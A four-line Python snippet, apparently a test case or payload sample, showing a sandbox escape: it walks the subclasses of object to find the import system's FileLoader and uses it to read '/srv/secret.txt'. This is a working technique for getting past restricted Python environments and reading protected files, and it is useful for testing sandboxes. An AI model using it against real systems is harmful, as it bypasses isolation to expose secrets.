# reaches: a FileLoader found among the subclasses of object reads a file
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "FileLoader":
        print(kind("n", "p").get_data("/srv/secret.txt"))
